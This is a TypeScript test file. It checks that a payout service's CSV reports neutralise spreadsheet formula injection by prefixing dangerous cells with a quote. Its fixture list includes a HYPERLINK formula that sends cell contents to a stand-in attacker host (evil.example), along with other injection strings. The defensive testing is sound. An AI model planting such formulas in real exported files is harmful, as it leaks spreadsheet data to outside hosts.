import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { renderReport } from "../../src/batches/report-format.js";
import type { ReportLine } from "../../src/results/report-line.js";
import { useLoggedService } from "../helpers/logged-service.js";
import { until } from "../helpers/service.js";

const h = useLoggedService();

async function csvOf(lines: ReportLine[]): Promise<string[][]> {
  async function* source() {
    yield* lines;
  }
  let text = "";
  for await (const chunk of renderReport(source(), "csv")) text += chunk;
  return parse(text, { relax_column_count: false }) as string[][];
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

describe("CSV reports are safe to open in a spreadsheet", () => {
  it("prefixes every text cell a spreadsheet would run as a formula with a quote", async () => {
    const rows = await csvOf(
      FORMULAS.map((text, i) => ({
        row: i + 1,
        reference: text,
        idempotencyKey: `k${i}`,
        result: "failed",
        upstreamId: text,
        upstreamStatus: text,
        error: text,
      })),
    );
    expect(rows[0]).toEqual([
      "row",
      "reference",
      "idempotency_key",
      "result",
      "upstream_id",
      "upstream_status",
      "error",
    ]);
    FORMULAS.forEach((text, i) => {
      const row = rows[i + 1] as string[];
      expect(row[0]).toBe(String(i + 1));
      for (const column of [1, 4, 5, 6]) expect(row[column]).toBe(`'${text}`);
    });
    // Harmless text stays as it was.
    const [, plain] = await csvOf([
      { row: 1, reference: "inv 2024-07", idempotencyKey: "k", result: "succeeded" },
    ]);
    expect(plain).toEqual(["1", "inv 2024-07", "k", "succeeded", "", "", ""]);
  });

  it("a batch whose references are formulas reports them as text", async () => {
    const header = "reference,amount,currency,bankCode,accountNumber,accountName,bankName";
    const refs = ["=1+1", "+1+1", "@SUM(A1)", "-5"];
    const body = [
      header,
      ...refs.map((r) => `"${r}",10,NGN,044,0123456789,Ada Obi,Access Bank`),
    ].join("\n");
    const submit = await h.api("POST", "/v1/batches?kind=payout.bank&batchId=formulas", {
      type: "text/csv",
      body,
    });
    expect(submit.status, submit.text).toBe(202);
    await until(
      () => h.api("GET", "/v1/batches/formulas"),
      (r) => r.body?.finishedAt !== undefined,
    );
    const report = await h.api("GET", "/v1/batches/formulas/results?format=csv");
    // Totals notes (lines starting with #) sit above the header.
    const table = report.text
      .split("\n")
      .filter((l) => !l.startsWith("#"))
      .join("\n");
    const rows = parse(table) as string[][];
    expect(rows.slice(1).map((r) => r[1])).toEqual(refs.map((r) => `'${r}`));
    for (const cells of rows.slice(1))
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
